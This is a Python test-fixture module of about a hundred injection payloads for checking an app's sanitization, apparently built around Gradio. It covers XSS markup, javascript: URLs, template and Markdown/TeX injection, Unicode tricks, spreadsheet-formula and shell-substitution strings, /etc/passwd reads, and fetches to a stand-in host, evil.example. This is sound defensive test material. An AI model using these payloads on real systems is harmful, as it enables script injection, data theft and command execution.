"""Words that try to be more than words. Each leaves a mark of its own in the page when it acts.

``@RUN@`` stands for a statement that sets a mark of the page, ``@GET@`` for an address on another machine. Both hold
the payload's own name (``PWN12``), by which it is found again in the text of a page. Our own list, after the kinds that
the OWASP cheat sheets on cross-site scripting and on CSS and PortSwigger's describe.
"""

from typing import Final

__all__ = ["ADDRESSES", "HOST", "MARKUP", "PAYLOADS", "WORDS", "name_of"]

HOST: Final = "evil.example"
"""Whom payloads try to reach."""

_MARKUP: Final = (
    # Scripts, whole, broken and disguised.
    "<script>@RUN@</script>",
    "<ScRiPt >@RUN@</sCrIpT>",
    "<script src=@GET@></script>",
    "<script/x>@RUN@</script/x>",
    "</script><script>@RUN@</script>",
    "<<script>@RUN@//<</script>",
    "</title><script>@RUN@</script>",
    "</textarea><script>@RUN@</script>",
    "</style><script>@RUN@</script>",
    "</noscript><script>@RUN@</script>",
    "--><script>@RUN@</script>",
    "]]><script>@RUN@</script>",
    "<!--><script>@RUN@</script>",
    "<script type=module>@RUN@</script>",
    # Events of elements.
    "<img src=x onerror=@RUN@>",
    "<img/src=x/onerror=@RUN@>",
    "<IMG SRC=x ONERROR='@RUN@'>",
    "<img src=x onerror\n=\n@RUN@>",
    "<img src=x:x onerror=&#119;indow.PWN@N@=1>",
    "<body onload=@RUN@>",
    "<svg onload=@RUN@>",
    "<svg/onload=@RUN@//",
    "<svg><script>@RUN@</script></svg>",
    "<svg><animate onbegin=@RUN@ attributeName=x dur=1s>",
    "<svg><set onbegin=@RUN@ attributename=x to=1>",
    "<svg><foreignObject><img src=x onerror=@RUN@></foreignObject></svg>",
    "<svg><style><img src=x onerror=@RUN@></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=@RUN@></style></mglyph></table></mtext></math>",
    "<math><mi><script>@RUN@</script></mi></math>",
    "<video><source onerror=@RUN@></video>",
    "<video src=@GET@ onerror=@RUN@></video>",
    "<audio src=@GET@ onerror=@RUN@></audio>",
    "<details open ontoggle=@RUN@>x</details>",
    "<input autofocus onfocus=@RUN@>",
    "<marquee onstart=@RUN@>x</marquee>",
    "<iframe srcdoc='<script>parent.PWN@N@=1</script>'></iframe>",
    "<iframe src=javascript:parent.PWN@N@=1></iframe>",
    "<object data=javascript:@RUN@></object><object data=@GET@></object>",
    "<embed src=@GET@>",
    "<style>@keyframes k@N@{}</style><p style='animation:k@N@ 1s' onanimationstart=@RUN@>x</p>",
    # What fetches, or sends the reader away.
    "<img src=@GET@>",
    "<img srcset='@GET@ 1x'>",
    "<picture><source srcset=@GET@><img src=x></picture>",
    "<link rel=stylesheet href=@GET@>",
    "<link rel=preload as=image href=@GET@>",
    "<style>@import '@GET@';</style>",
    "<style>body{background:url(@GET@)}</style>",
    "<p style=\"background-image:url('@GET@')\">x</p>",
    "<table background=@GET@><tr><td>x</table>",
    "<svg><image href=@GET@ /></svg>",
    "<iframe src=@GET@></iframe>",
    # Out of an attribute.
    '"><script>@RUN@</script>',
    "'><img src=x onerror=@RUN@>",
    '" onfocus="@RUN@" autofocus x="',
    "' onmouseover='@RUN@' style='position:fixed;inset:0' x='",
    "x onerror=@RUN@ ",
    "`><img src=x onerror=@RUN@>`",
    "</option></select><img src=x onerror=@RUN@>",
    "</div></section></main></details><img src=x onerror=@RUN@>",
    "</mark></bdi></td></tr></table><img src=x onerror=@RUN@>",
)

_ADDRESSES: Final = (
    "javascript:@RUN@",
    "JaVaScRiPt:@RUN@",
    " java\tscript:@RUN@",
    "\x01javascript:@RUN@",
    "javascript&colon;@RUN@",
    "data:text/html,<script>@RUN@</script>",
    "vbscript:@RUN@",
    "https://site.example/'onmouseover='@RUN@",
    'https://site.example/"><img src=x onerror=@RUN@>',
    "file:///etc/passwd#@RUN@",
)

_WORDS: Final = (
    # Templates, of Gradio and of others.
    "${@RUN@}",
    "`${@RUN@}`",
    "{{constructor.constructor('@RUN@')()}}",
    "{{@RUN@}} {% @RUN@ %} <%= @RUN@ %> #{@RUN@}",
    "{@html '<img src=x onerror=@RUN@>'}",
    # Markdown and TeX.
    "[x](javascript:@RUN@)",
    "![x](@GET@)",
    "![x](@GET@ \"onerror='@RUN@'\")",
    "[x]: javascript:@RUN@\n[x]",
    "<javascript:@RUN@> <@GET@>",
    "```html\n<img src=x onerror=@RUN@>\n```\n<img src=x onerror=@RUN@>",
    "$$\\href{javascript:@RUN@}{x}$$ \\(\\includegraphics{@GET@}\\)",
    "$\\htmlData{x=@RUN@}{y}$ $\\unicode{x}$ \\input{/etc/passwd} \\write18{@GET@}",
    # Tricks of Unicode: other signs for < and >, letters that vanish, letters that turn others round.
    "\uff1cscript\uff1e@RUN@\uff1c/script\uff1e",
    "\u2039img src=x onerror=@RUN@\u203a",
    "<scr\u200bipt>@RUN@</scr\u00adipt>",
    "+ADw-script+AD4-@RUN@+ADw-/script+AD4-",
    "&lt;script&gt;@RUN@&lt;/script&gt; &amp;lt;img src=x onerror=@RUN@&amp;gt;",
    "%3Cscript%3E@RUN@%3C/script%3E \\u003cscript\\u003e@RUN@\\x3c/script\\x3e",
    "invoice \u202e@RUN@ txt.exe\u202c \u2066\u2067\u061c",
    # What steers a terminal, a spreadsheet or a shell.
    "\x1b]0;@RUN@\x07\x1b[2J\x1b[31m",
    "\x9b2J\x9d0;@RUN@\x9c\x08\x7f",
    '=HYPERLINK("@GET@","@RUN@")',
    "@SUM(1+1)*cmd|' /C calc'!A0 @RUN@",
    "$(touch @RUN@) `touch x` ; touch x | touch x && touch x",
)


def name_of(number: int) -> str:
    """What a payload's mark is called."""
    return f"PWN{number}"


def _made(template: str, number: int) -> str:
    return (
        template.replace("@RUN@", f"window.{name_of(number)}=1")
        .replace("@GET@", f"http://{HOST}/{name_of(number)}")
        .replace("@N@", str(number))
    )


def _numbered(templates: tuple[str, ...], first: int) -> tuple[str, ...]:
    return tuple(_made(template, first + place) for place, template in enumerate(templates))


MARKUP: Final = _numbered(_MARKUP, 0)
"""Those that act where a page takes them for its own markup."""

ADDRESSES: Final = _numbered(_ADDRESSES, len(_MARKUP))
"""Those that act where they become an address."""

WORDS: Final = _numbered(_WORDS, len(_MARKUP) + len(_ADDRESSES))
"""Those that act where a template, a Markdown reader, a terminal or a spreadsheet reads them."""

PAYLOADS: Final = (*MARKUP, *ADDRESSES, *WORDS)
"""All of them; the name of each, :func:`name_of` its place, stands in it."""
